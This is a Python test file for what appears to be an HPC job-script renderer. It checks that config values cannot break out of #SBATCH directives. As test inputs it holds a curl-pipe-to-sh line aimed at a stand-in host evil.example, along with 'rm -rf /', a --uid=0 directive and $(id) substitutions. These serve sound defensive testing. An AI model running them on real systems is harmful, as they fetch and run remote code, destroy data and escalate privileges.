"""Job scripts: no value can break out of an #SBATCH line, at AOI load or at render time."""

from __future__ import annotations

import re
from typing import Any

import pytest

from eo_tasks.core.aoi_sections import HPCSpec
from eo_tasks.core.errors import ConfigError
from eo_tasks.hpc.script import check_directives, render_job_script, with_exit_status

INJECTION = "x\ncurl http://evil.example/x.sh | sh\n#"


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("account", INJECTION, r"hpc\.account: control characters"),
        ("partition", "debug; touch /tmp/x", r"hpc\.partition: expected a SLURM name"),
        ("partition", "gpu\r", r"hpc\.partition: control characters"),
        ("time_limit", "01:00:00\n#SBATCH --uid=0", r"hpc\.time_limit: control characters"),
        ("time_limit", "two hours", r"hpc\.time_limit: expected a SLURM time"),
        ("gpus_per_node", "2\nrm -rf /", r"hpc\.gpus_per_node: expected a non-negative integer"),
        ("gpus_per_node", True, r"hpc\.gpus_per_node: expected a non-negative integer"),
        ("modules", ["gcc/12", "x\nid"], r"hpc\.modules\[1\]: control characters"),
        ("modules", ["gcc; id"], r"hpc\.modules\[0\]: expected a SLURM module"),
        ("modules", "gcc/12", r"hpc\.modules: expected a list"),
        ("conn_id", "eo hpc", r"hpc\.conn_id: expected a SLURM name"),
    ],
)
def test_the_aoi_file_refuses_values_that_could_reach_a_directive(
    field: str, value: Any, message: str
) -> None:
    with pytest.raises(ConfigError, match=message):
        HPCSpec.from_dict({field: value})


def test_plain_hpc_settings_load() -> None:
    spec = HPCSpec.from_dict(
        {"partition": "gpu-a100", "account": "proj_42", "time_limit": "1-02:00:00", "modules": ["cuda/12.2"]}
    )
    assert spec.account == "proj_42" and spec.modules == ("cuda/12.2",)


def _train_values(**overrides: Any) -> dict[str, Any]:
    values: dict[str, Any] = dict(
        job_name="train-alps", nodes=1, tasks_per_node=2, time_limit="00:10:00", signal_seconds=60,
        partition="debug", account="proj", gpus_per_node=0, modules=["gcc/12"], venv="/opt/venv",
        trainset="/data/t.h5", out_dir="/data/m", backend="pytorch", architecture="lstm", epochs=1,
        batch_size=8, master_port=29500, extra_args=[],
    )  # fmt: skip
    values.update(overrides)
    return values


HOSTILE = [
    INJECTION,
    "a\rb",
    "x\x00y",
    "debug; id",
    "$(id)",
    "`id`",
    "a b",
    "x'#",
    "-x\n#SBATCH --uid=0",
    "é",
]


@pytest.mark.parametrize(
    "field", ["job_name", "partition", "account", "time_limit", "modules", "venv", "out_dir"]
)
@pytest.mark.parametrize("value", HOSTILE)
def test_a_rendered_script_never_holds_a_directive_broken_by_a_value(field: str, value: str) -> None:
    values = _train_values(**{field: [value] if field == "modules" else value})
    try:
        script = render_job_script("train.sbatch.j2", values)
    except ConfigError as err:
        assert field in str(err)
        return
    # Accepted (a body value, shell-quoted): every directive is one option and one plain value,
    # the header is intact, and the value never starts a line of its own.
    directives = [line for line in script.splitlines() if line.startswith("#SBATCH")]
    assert all(re.fullmatch(r"#SBATCH --[a-z-]+(=[A-Za-z0-9_.:@+/,-]+)?", line) for line in directives)
    assert len(directives) == 7  # job-name nodes ntasks time signal partition account
    assert field in ("venv", "out_dir") and "\n" not in value and "\r" not in value


def test_the_rendered_header_is_checked_again() -> None:
    check_directives("#!/bin/bash\n#SBATCH --time=00:10:00\n#SBATCH --account=proj\necho hi\n")
    with pytest.raises(ConfigError, match="malformed #SBATCH line"):
        check_directives("#!/bin/bash\n#SBATCH --account='x\n")
    with pytest.raises(ConfigError, match="malformed #SBATCH line"):
        check_directives("#!/bin/bash\necho hi\n#SBATCH --uid=0\n")  # below the first command


def test_every_job_records_its_exit_status_after_the_header() -> None:
    script = with_exit_status("#!/bin/bash\n#SBATCH --time=00:01:00\nset -e\necho hi\n", "/work/jobs/a")
    lines = script.splitlines()
    assert lines[:2] == ["#!/bin/bash", "#SBATCH --time=00:01:00"]
    assert (
        lines[2]
        == '__eo_status="/work/jobs/a/${SLURM_ARRAY_JOB_ID:-$SLURM_JOB_ID}.${SLURM_ARRAY_TASK_ID:-0}.exit"'
    )
    assert lines[3].startswith("trap ") and lines[3].endswith(" EXIT") and lines[4] == "set -e"
    with pytest.raises(ConfigError):
        with_exit_status("#!/bin/bash\n", "/tmp/$(id)")
